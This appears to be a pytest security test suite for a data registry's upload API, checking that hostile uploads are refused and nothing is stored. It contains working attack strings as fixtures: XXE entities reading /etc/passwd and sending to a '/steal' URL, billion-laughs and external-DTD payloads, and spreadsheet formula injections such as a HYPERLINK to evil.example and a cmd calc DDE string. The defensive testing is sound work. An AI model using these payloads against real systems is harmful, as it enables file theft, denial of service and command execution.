"""Hostile uploads through POST /api/submissions: each gets a clear 4xx JSON error and nothing is stored.

XXE, billion laughs, external DTDs (SDMX-ML), bodies far above the size limit (declared, lying or chunked),
compressed bodies, invalid UTF-8, spreadsheet formula cells (CSV) and metadata, an unclosed quote (CSV), source
rows in other digits, file: IRIs and remote JSON-LD contexts (RDF); and the Link header of /api/observations,
which repeats only checked parameters. A local HTTP listener proves that nothing is fetched: it must never see a
request. The uploads that crashed or exhausted the server process are in ``test_hostile_live.py``.
"""

from __future__ import annotations

import gzip
import threading
import time
from collections.abc import Iterator
from dataclasses import replace
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path

import httpx
import pytest
from fastapi.testclient import TestClient
from pyoxigraph import Literal, RdfFormat, Triple, serialize

from api import vocab
from api.errors import InputFileError
from api.formats.rdf.cube import records_to_triples
from api.formats.rdf.reader import read_rdf_bytes
from api.formats.tabular.template import read_csv_bytes
from api.services.registry import Registry
from api.validation.cell_checks import FORMULA_RULE, formula_cells, is_formula
from api.validation.report import ObservationInfo
from tests.read.conftest import row
from tests.services.samples import HEADER
from tests.submissions.test_upload import world

__all__ = ["world"]

World = tuple[TestClient, dict[str, str]]
GIB = 1024 ** 3
MES21 = "http://www.sdmx.org/resources/sdmxml/schemas/v2_1/message"
GEN21 = "http://www.sdmx.org/resources/sdmxml/schemas/v2_1/data/generic"
FILE_REFUSED = "IRIs with the file: scheme are refused: the registry never reads local files; use the registry's IRIs"


@pytest.fixture
def listener() -> Iterator[tuple[str, list[str]]]:
    """A local HTTP server that records every request it gets (there must be none)."""
    hits: list[str] = []

    class Handler(BaseHTTPRequestHandler):
        def do_GET(self) -> None:  # http.server's name
            hits.append(self.path)
            body = b'<!ENTITY leak "LEAKED">' if self.path.endswith(".dtd") else b'{"@context": {}}'
            self.send_response(200)
            self.send_header("Content-Length", str(len(body)))
            self.end_headers()
            self.wfile.write(body)

        def log_message(self, format: str, *args: object) -> None:  # http.server's name
            return

    server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    yield f"http://127.0.0.1:{server.server_port}", hits
    server.shutdown()
    server.server_close()


def _auth(token: str) -> dict[str, str]:
    return {"Authorization": f"Bearer {token}"}


def _post_raw(client: TestClient, token: str, body: bytes, content_type: str, **headers: str) -> httpx.Response:
    return client.post("/api/submissions", params={"dataset": "DEU_STOCK", "source": "Census"}, content=body,
                       headers={**_auth(token), "Content-Type": content_type, **headers})


def _assert_nothing_stored(client: TestClient, registry: Registry) -> None:
    assert client.get("/api/observations").json()["total"] == 0
    prefix = registry.iris.submission("")
    assert [g for g in registry.store.list_graphs() if g.startswith(prefix)] == []


def _sdmx(doctype: str, value: str = "&e;") -> bytes:
    """A GenericData message for our dataflow, preceded by ``doctype``, with ``value`` in a COMMENT."""
    return f"""<?xml version="1.0" encoding="UTF-8"?>
{doctype}
<mes:GenericData xmlns:mes="{MES21}" xmlns:com="{MES21[:-7]}common" xmlns:gen="{GEN21}">
 <mes:Header><mes:ID>X</mes:ID><mes:Test>false</mes:Test><mes:Prepared>2024-01-01T00:00:00Z</mes:Prepared>
  <mes:Sender id="DESTATIS"/><mes:Structure structureID="S" dimensionAtObservation="TIME_PERIOD">
  <com:StructureUsage><Ref agencyID="MPR" id="MIGRATION_PROFILE" version="1.0"/></com:StructureUsage>
 </mes:Structure></mes:Header>
 <mes:DataSet structureRef="S"><gen:Series><gen:SeriesKey><gen:Value id="FREQ" value="A"/>
  <gen:Value id="REF_AREA" value="DEU"/><gen:Value id="INDICATOR" value="STK_IMM"/>
  <gen:Value id="COUNTERPART_AREA" value="_T"/><gen:Value id="SEX" value="_T"/><gen:Value id="AGE" value="_T"/>
  <gen:Value id="MIGRATION_STATUS" value="_Z"/></gen:SeriesKey>
  <gen:Obs><gen:ObsDimension value="2020"/><gen:ObsValue value="100"/><gen:Attributes>
   <gen:Value id="UNIT_MEASURE" value="PS"/><gen:Value id="CONF_STATUS" value="F"/>
   <gen:Value id="COMMENT" value="{value}"/></gen:Attributes></gen:Obs></gen:Series></mes:DataSet>
</mes:GenericData>
""".encode()


def _refused_doctype(answer: httpx.Response) -> dict[str, object]:
    assert answer.status_code == 400, answer.text
    error = answer.json()["error"]
    assert error["code"] == "unreadable_input"
    assert "SDMX-ML never needs a DOCTYPE; external entities and DTDs are refused" in error["message"]
    assert "Remove the <!DOCTYPE" in error["message"]
    return dict(error)


def test_the_clean_message_is_accepted(world: World, registry: Registry) -> None:
    """The control: the same message without a DOCTYPE is stored (so the refusals below are the DOCTYPE's)."""
    client, tokens = world
    answer = _post_raw(client, tokens["DESTATIS"], _sdmx("", "plain"), "application/xml")
    assert answer.status_code == 201, answer.text


@pytest.mark.parametrize("how", ["multipart", "application/xml", "application/vnd.sdmx.genericdata+xml"])
def test_xxe_is_refused_and_never_leaks_the_file(world: World, registry: Registry, how: str,
                                                 listener: tuple[str, list[str]]) -> None:
    client, tokens = world
    base, hits = listener
    doctype = (f'<!DOCTYPE mes:GenericData [<!ENTITY e SYSTEM "file:///etc/passwd">'
               f'<!ENTITY f SYSTEM "{base}/steal">]>')
    body = _sdmx(doctype, "&e;&f;")
    if how == "multipart":
        answer = client.post("/api/submissions", headers=_auth(tokens["DESTATIS"]),
                             files={"file": ("stock.xml", body, "application/xml")},
                             data={"dataset": "DEU_STOCK", "source": "Census"})
    else:
        answer = _post_raw(client, tokens["DESTATIS"], body, how)
    _refused_doctype(answer)
    passwd = Path("/etc/passwd")
    secret = passwd.read_text(errors="replace").splitlines()[0] if passwd.is_file() else "root:x:0:0"
    assert secret not in answer.text and "root:" not in answer.text
    assert hits == []
    _assert_nothing_stored(client, registry)


def test_billion_laughs_is_refused_at_once(world: World, registry: Registry) -> None:
    client, tokens = world
    entities = '<!ENTITY e0 "lol">' + "".join(
        f'<!ENTITY e{i} "{f"&e{i - 1};" * 10}">' for i in range(1, 10))
    started = time.monotonic()
    answer = _post_raw(client, tokens["DESTATIS"], _sdmx(f"<!DOCTYPE lolz [{entities}]>", "&e9;"), "text/xml")
    assert time.monotonic() - started < 5
    _refused_doctype(answer)
    assert "lollol" not in answer.text
    _assert_nothing_stored(client, registry)


@pytest.mark.parametrize("kind", ["system", "public", "parameter-entity"])
def test_external_dtds_are_refused_and_never_fetched(world: World, registry: Registry, kind: str,
                                                     listener: tuple[str, list[str]]) -> None:
    client, tokens = world
    base, hits = listener
    doctype = {
        "system": f'<!DOCTYPE mes:GenericData SYSTEM "{base}/sdmx.dtd">',
        "public": f'<!DOCTYPE mes:GenericData PUBLIC "-//SDMX//DTD Data//EN" "{base}/sdmx.dtd">',
        "parameter-entity": f'<!DOCTYPE mes:GenericData [<!ENTITY % p SYSTEM "{base}/evil.dtd"> %p;]>',
    }[kind]
    answer = _post_raw(client, tokens["DESTATIS"], _sdmx(doctype, "&leak;"), "application/vnd.sdmx.data+xml")
    _refused_doctype(answer)
    assert hits == [] and "LEAKED" not in answer.text
    _assert_nothing_stored(client, registry)


def test_a_one_gigabyte_upload_is_refused_before_it_is_read(world: World, registry: Registry) -> None:
    client, tokens = world
    sent: list[int] = []

    def body() -> Iterator[bytes]:
        chunk = b"x" * (1024 * 1024)
        for _ in range(GIB // len(chunk)):
            sent.append(len(chunk))
            yield chunk

    started = time.monotonic()
    answer = client.post("/api/submissions", params={"dataset": "DEU_STOCK"}, content=body(),
                         headers={**_auth(tokens["DESTATIS"]), "Content-Type": "text/csv",
                                  "Content-Length": str(GIB)})
    assert time.monotonic() - started < 5
    assert answer.status_code == 413, answer.text
    error = answer.json()["error"]
    assert error["code"] == "too_large" and "1,073,741,824 bytes" in error["message"]
    assert sum(sent) <= 1024 * 1024  # at most the first chunk was pulled, never the gigabyte
    _assert_nothing_stored(client, registry)


def test_a_body_above_a_small_limit_is_refused_even_with_a_lying_length(
        world: World, registry: Registry, monkeypatch: pytest.MonkeyPatch) -> None:
    client, tokens = world
    monkeypatch.setattr(registry, "settings", replace(registry.settings, max_upload_bytes=500))
    body = _sdmx("", "x" * 600)
    honest = client.post("/api/submissions", headers=_auth(tokens["DESTATIS"]),
                         files={"file": ("stock.xml", body, "application/xml")}, data={"dataset": "DEU_STOCK"})
    assert honest.status_code == 413 and honest.json()["error"]["code"] == "too_large"
    lying = _post_raw(client, tokens["DESTATIS"], body, "application/xml", **{"Content-Length": "100"})
    assert lying.status_code == 413, lying.text
    _assert_nothing_stored(client, registry)


# The route refuses any Content-Encoding but identity before reading the body (api/web/submission_routes.py):
# the registry never decompresses, so there is no zip bomb to defuse.
@pytest.mark.parametrize("encoding", ["gzip", "deflate", "br", "GZIP", "gzip, identity", "x-zip-bomb"])
def test_compressed_uploads_are_refused(world: World, registry: Registry, encoding: str) -> None:
    client, tokens = world
    body = gzip.compress(("\n".join([HEADER, row("DEU", "2020", "100")]) + "\n").encode())
    answer = _post_raw(client, tokens["DESTATIS"], body, "text/csv", **{"Content-Encoding": encoding})
    assert answer.status_code == 415, answer.text
    message = answer.json()["error"]["message"]
    assert "Content-Encoding" in message and "not accepted" in message and "decompress" in message
    _assert_nothing_stored(client, registry)


def test_only_identity_passes_the_encoding_check(world: World, registry: Registry) -> None:
    client, tokens = world
    body = ("\n".join([HEADER, row("DEU", "2020", "100")]) + "\n").encode()
    assert _post_raw(client, tokens["DESTATIS"], body, "text/csv", **{"Content-Encoding": "gzip"}).status_code == 415
    _assert_nothing_stored(client, registry)
    answer = _post_raw(client, tokens["DESTATIS"], body, "text/csv", **{"Content-Encoding": "identity"})
    assert answer.status_code == 201, answer.text


def test_invalid_utf8_csv_names_line_and_byte(world: World, registry: Registry) -> None:
    client, tokens = world
    good = row("DEU", "2019", "100")
    bad = row("DEU", "2020", "200", comment="Z\xfcrich").encode("latin-1")
    body = (HEADER + "\n" + good + "\n").encode() + bad + b"\n"
    byte = bad.index(b"\xfc") + 1
    answer = _post_raw(client, tokens["DESTATIS"], body, "text/csv")
    assert answer.status_code == 400, answer.text
    message = answer.json()["error"]["message"]
    assert f"line 3, byte {byte}: the file is not UTF-8 text (byte 0xFC)" in message and "UTF-8" in message
    _assert_nothing_stored(client, registry)


def test_formula_cells_are_violations_with_row_and_column(world: World, registry: Registry) -> None:
    client, tokens = world
    rows = [
        row("DEU", "2015", "100", comment='=HYPERLINK("http://evil.example/?"&A1,"click")'),
        row("DEU", "2016", "100", comment="+1+cmd|' /C calc'!A0"),
        row("DEU", "2017", "100", comment="-2+3"),
        row("DEU", "2018", "100") + "@SUM(1+1)",  # SOURCE_DETAIL, the last column
        row("DEU", "2019", "100", comment="\t=1+1"),
        row("DEU", "2020", "100", comment="a note = fine; - also fine"),
        row("DEU", "2013", "+5"),  # a signed number is not a formula: the numeric rules judge it
        row("DEU", "2014", "-5"),
    ]
    answer = _post_raw(client, tokens["DESTATIS"], ("\n".join([HEADER, *rows]) + "\n").encode(), "text/csv")
    assert answer.status_code == 422, answer.text
    results = answer.json()["error"]["details"]["report"]["results"]
    formulas = [r for r in results if r["rule"] == FORMULA_RULE]
    assert {(r["row"], r["column"]) for r in formulas} == {
        (2, "COMMENT"), (3, "COMMENT"), (4, "COMMENT"), (5, "SOURCE_DETAIL"), (6, "COMMENT")}
    assert all(r["severity"] == "Violation" for r in formulas)
    assert all("spreadsheet formula injection" in r["message"] and
               "remove the leading character or quote it" in r["message"] for r in formulas)
    others = {(r["row"], r["column"]) for r in results if r["rule"] != FORMULA_RULE and r["severity"] == "Violation"}
    assert others == {(9, "OBS_VALUE")}  # -5 is below the range, and nothing else is wrong with these rows
    _assert_nothing_stored(client, registry)


def test_is_formula_and_the_cell_rule() -> None:
    assert all(is_formula(t) for t in ("=1", "+A1", "-cmd", "@SUM(A1)", "\tx", "\r=1", "-", "+-5", "--5"))
    assert not any(is_formula(t) for t in ("", "5", "-5", "+5", "-0.5", "+1e3", "-.5", " =1", "a=1", "DEU"))
    problems = formula_cells({"urn:o1": ObservationInfo(7, {"COMMENT": "\r=1", "OBS_VALUE": "-5"}),
                              "urn:o2": ObservationInfo(None, {"SOURCE_DETAIL": "@x"})})
    assert [(p.row, p.column, p.rule, p.severity) for p in problems] == [
        (7, "COMMENT", FORMULA_RULE, "Violation"), (None, "SOURCE_DETAIL", FORMULA_RULE, "Violation")]
    assert "a carriage return" in problems[0].message and "observation <urn:o2>" in problems[1].message


TURTLE_FILE_IRIS = {
    "subject": '<file:///etc/passwd> <http://example.org/p> "x" .',
    "predicate": '<http://example.org/s> <file:///etc/passwd> "x" .',
    "object": "<http://example.org/s> <http://example.org/p> <file:///etc/passwd> .",
    "datatype": '<http://example.org/s> <http://example.org/p> "x"^^<file:///etc/type> .',
    "upper-case scheme": "<http://example.org/s> <http://example.org/p> <FILE:///etc/passwd> .",
    "@base": '@base <file:///etc/> .\n<passwd> <http://example.org/p> "x" .',
    "unused @base": '@base <file:///etc/> .\n<http://example.org/s> <http://example.org/p> "x" .',
    "unused @prefix": '@prefix f: <file:///etc/> .\n<http://example.org/s> <http://example.org/p> "x" .',
    "BASE": 'BASE <file:///etc/>\n<http://example.org/s> <http://example.org/p> "x" .',
    "PREFIX": 'PREFIX f: <file:///etc/>\nf:passwd <http://example.org/p> "x" .',
}
JSON_LD_FILE_IRIS = {
    "@id": '{"@id": "file:///etc/passwd", "http://example.org/p": "x"}',
    "@base": '{"@context": {"@base": "file:///etc/"}, "@id": "http://example.org/s", "http://example.org/p": "x"}',
    "@vocab": '{"@context": {"@vocab": "file:///etc/"}, "@id": "http://example.org/s", "passwd": "x"}',
    "graph name": '{"@id": "file:///graph", "@graph": [{"@id": "http://example.org/s", "http://example.org/p": "x"}]}',
    "@context": '{"@context": "file:///etc/context.jsonld", "@id": "http://example.org/s"}',
}


@pytest.mark.parametrize("where", sorted(TURTLE_FILE_IRIS))
def test_file_iris_in_turtle_are_refused(where: str) -> None:
    with pytest.raises(InputFileError, match=FILE_REFUSED) as refused:
        read_rdf_bytes(TURTLE_FILE_IRIS[where].encode(), "evil.ttl", RdfFormat.TURTLE)
    assert refused.value.message.startswith("evil.ttl: ") and "file:///etc/" in refused.value.message.lower()


@pytest.mark.parametrize("where", sorted(JSON_LD_FILE_IRIS))
def test_file_iris_in_json_ld_are_refused(where: str) -> None:
    with pytest.raises(InputFileError, match=FILE_REFUSED):
        read_rdf_bytes(JSON_LD_FILE_IRIS[where].encode(), "evil.jsonld", RdfFormat.JSON_LD)


def test_file_iris_in_n_triples_are_refused() -> None:
    with pytest.raises(InputFileError, match=FILE_REFUSED):
        read_rdf_bytes(b"<http://example.org/s> <http://example.org/p> <file:///etc/passwd> .\n", "evil.nt",
                       RdfFormat.N_TRIPLES)
    fine = read_rdf_bytes(b'<http://example.org/s> <http://example.org/p> "file:///etc/passwd is a path" .\n',
                          "fine.nt", RdfFormat.N_TRIPLES)  # a literal that mentions file: is not an IRI
    assert fine.records == [] and fine.problems == ()


@pytest.mark.parametrize(("suffix", "media", "document"), [
    (".ttl", "text/turtle", TURTLE_FILE_IRIS["subject"]),
    (".nt", "application/n-triples", TURTLE_FILE_IRIS["object"]),
    (".jsonld", "application/ld+json", JSON_LD_FILE_IRIS["graph name"]),
])
def test_file_iris_over_http(world: World, registry: Registry, suffix: str, media: str, document: str) -> None:
    client, tokens = world
    answer = client.post("/api/submissions", headers=_auth(tokens["DESTATIS"]),
                         files={"file": ("cube" + suffix, document.encode(), media)},
                         data={"dataset": "DEU_STOCK", "source": "Census"})
    assert answer.status_code == 400, answer.text
    assert FILE_REFUSED in answer.json()["error"]["message"]
    _assert_nothing_stored(client, registry)


@pytest.mark.parametrize("context", ["{base}/context.jsonld", "[{{\"@import\": \"{base}/context.jsonld\"}}]",
                                     "[{{\"@version\": 1.1}}, \"{base}/context.jsonld\"]"],
                         ids=["string", "@import", "list"])
def test_remote_json_ld_contexts_are_never_fetched(world: World, registry: Registry, context: str,
                                                   listener: tuple[str, list[str]]) -> None:
    client, tokens = world
    base, hits = listener
    value = context.format(base=base)
    context_json = f'"{value}"' if not value.startswith("[") else value
    document = f'{{"@context": {context_json}, "@id": "http://example.org/s", "name": "x"}}'
    with pytest.raises(InputFileError, match=r"is remote; the registry never fetches anything") as refused:
        read_rdf_bytes(document.encode(), "ctx.jsonld", RdfFormat.JSON_LD)
    assert "write the context inline" in refused.value.message
    answer = _post_raw(client, tokens["DESTATIS"], document.encode(), "application/ld+json")
    assert answer.status_code == 400, answer.text
    assert "never fetches anything" in answer.json()["error"]["message"]
    assert hits == []
    _assert_nothing_stored(client, registry)


def cube_turtle(rows: list[str], source_row: str | None = None) -> bytes:
    """A submission as the RDF cube the registry itself writes (Turtle), optionally with one mp:sourceRow text."""
    records = read_csv_bytes(("\n".join([HEADER, *rows]) + "\n").encode(), "rows.csv").records
    triples = list(records_to_triples(records, vocab.InstanceIris("http://registry.test"), "upload"))
    if source_row is not None:
        triples = [Triple(t.subject, t.predicate, Literal(source_row)) if t.predicate.value == vocab.MP + "sourceRow"
                   else t for t in triples]
    return serialize(triples, format=RdfFormat.TURTLE)


@pytest.mark.parametrize("text", ["²", "٣", "1" * 5000])
def test_a_source_row_of_other_digits_is_an_answer_not_a_500(world: World, registry: Registry, text: str) -> None:
    client, tokens = world
    answer = _post_raw(client, tokens["DESTATIS"], cube_turtle([row("DEU", "2020", "100")], text), "text/turtle")
    assert answer.status_code in (201, 422), answer.text
    control = _post_raw(client, tokens["DESTATIS"], cube_turtle([row("DEU", "2021", "100")]), "text/turtle",
                        **{"If-Match": "*"} if answer.status_code == 201 else {})
    assert control.status_code == 201, control.text


def test_an_unclosed_quote_swallows_no_row_unseen(world: World, registry: Registry) -> None:
    client, tokens = world
    unclosed = row("DEU", "2020", "100").removesuffix(",") + '"never closed'  # COMMENT opens a quote
    body = ("\n".join([HEADER, row("DEU", "2019", "90"), unclosed, row("DEU", "2021", "110")]) + "\n").encode()
    answer = _post_raw(client, tokens["DESTATIS"], body, "text/csv")
    assert answer.status_code == 422, answer.text
    results = answer.json()["error"]["details"]["report"]["results"]
    violations = [(r["rule"], r["row"], r["column"]) for r in results if r["severity"] == "Violation"]
    assert violations == [("malformed-row", 3, "COMMENT")]
    assert "a quote (\") is not closed" in results[0]["message"]
    _assert_nothing_stored(client, registry)


FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)", "\t=1"]


@pytest.mark.parametrize("field", ["title", "source", "methodology", "definition_basis"])
@pytest.mark.parametrize("how", ["multipart", "query", "dry-run"])
def test_formula_metadata_is_refused_like_formula_cells(world: World, registry: Registry, field: str,
                                                         how: str) -> None:
    client, tokens = world
    body = ("\n".join([HEADER, row("DEU", "2020", "100")]) + "\n").encode()
    for value in FORMULAS:
        fields = {"dataset": "DEU_STOCK", "source": "Census", field: value}
        if how == "multipart":
            answer = client.post("/api/submissions", headers=_auth(tokens["DESTATIS"]), data=fields,
                                 files={"file": ("s.csv", body, "text/csv")})
        else:
            answer = client.post("/api/submissions", content=body, params={
                **fields, **({"dry_run": "true"} if how == "dry-run" else {})},
                headers={**_auth(tokens["DESTATIS"]), "Content-Type": "text/csv"})
        assert answer.status_code == 400, (value, answer.text)
        error = answer.json()["error"]
        assert error["message"].startswith(f"{field}=") and "spreadsheet formula injection" in error["message"]
        assert error["details"] == {"field": field, "rule": FORMULA_RULE}
    _assert_nothing_stored(client, registry)
    fine = client.post("/api/submissions", headers=_auth(tokens["DESTATIS"]), files={"file": ("s.csv", body)},
                       data={"dataset": "DEU_STOCK", "source": "Census", field: "Census 2022 (a = b; -5 inside)"})
    assert fine.status_code == 201, fine.text


def test_the_link_header_repeats_only_checked_parameters(world: World, registry: Registry) -> None:
    client, _ = world
    for bad in ("x" * 5000, "DEU STOCK", "<script>", "a\u00b2", "\u0414"):
        answer = client.get("/api/observations", params={"dataset": bad})
        assert answer.status_code == 400, answer.text
        assert "is not a dataset id" in answer.json()["error"]["message"] and "Link" not in answer.headers
    answer = client.get("/api/observations", params={"dataset": "DEU_STOCK", "per_page": 5, "lang": "fr;q=1" * 300,
                                                      "zzz": "y" * 3000})
    assert answer.status_code == 200, answer.text
    link = answer.headers["link"]
    assert "dataset=DEU_STOCK" in link and "per_page=5" in link and "lang=fr" in link
    assert "zzz" not in link and "q%3D1" not in link and len(link) < 1000


@pytest.mark.parametrize("value", ["\u00b2", "\u0663", "1" * 30])
def test_a_base_version_of_other_digits_is_a_400(world: World, registry: Registry, value: str) -> None:
    client, tokens = world
    body = ("\n".join([HEADER, row("DEU", "2020", "100")]) + "\n").encode()
    answer = client.post("/api/submissions", headers=_auth(tokens["DESTATIS"]), files={"file": ("s.csv", body)},
                         data={"dataset": "DEU_STOCK", "source": "x", "base_version": value})
    assert answer.status_code == 400 and "is not a version number" in answer.json()["error"]["message"]


def _chunks(total: int, head: bytes = b"", tail: bytes = b"") -> Iterator[bytes]:
    yield head
    chunk = b"x" * (256 * 1024)
    for _ in range(total // len(chunk)):
        yield chunk
    yield tail


@pytest.mark.parametrize("how", ["raw", "multipart"])
@pytest.mark.parametrize("length", [None, "100"], ids=["chunked", "chunked with a lying Content-Length"])
def test_a_chunked_body_is_counted_and_stopped_at_the_limit(
        world: World, registry: Registry, how: str, length: str | None, monkeypatch: pytest.MonkeyPatch) -> None:
    client, tokens = world
    monkeypatch.setattr(registry, "settings", replace(registry.settings, max_upload_bytes=1024 * 1024))
    headers = {**_auth(tokens["DESTATIS"]), "Content-Type": "text/csv"}
    head, tail = b"", b""
    if how == "multipart":
        headers["Content-Type"] = "multipart/form-data; boundary=b0undary"
        head = (b'--b0undary\r\nContent-Disposition: form-data; name="dataset"\r\n\r\nDEU_STOCK\r\n--b0undary\r\n'
                b'Content-Disposition: form-data; name="file"; filename="s.csv"\r\nContent-Type: text/csv\r\n\r\n')
        tail = b"\r\n--b0undary--\r\n"
    if length is not None:
        headers["Content-Length"] = length
    answer = client.post("/api/submissions", params={"dataset": "DEU_STOCK"}, headers=headers,
                         content=_chunks(64 * 1024 * 1024, head, tail))
    assert answer.status_code == 413, answer.text
    error = answer.json()["error"]
    assert error["code"] == "too_large" and "more than 1,048,576 bytes (counted as it arrived)" in error["message"]
    # (the test client drains the rest of the body after the answer; the server's memory while a real client
    # sends is measured in test_hostile_live.py)
    _assert_nothing_stored(client, registry)


@pytest.mark.parametrize("value", ["\u00b2", "\u0663", "9" * 5000])
def test_an_observation_count_of_other_digits_is_a_400(world: World, value: str) -> None:
    client, _ = world
    answer = client.get("/sdmx/v1/data/MIGRATION_PROFILE", params={"lastNObservations": value},
                        headers={"Accept": "application/json"})
    assert answer.status_code == 400, answer.text
    assert "must be a positive integer" in answer.text and len(answer.text) < 2000
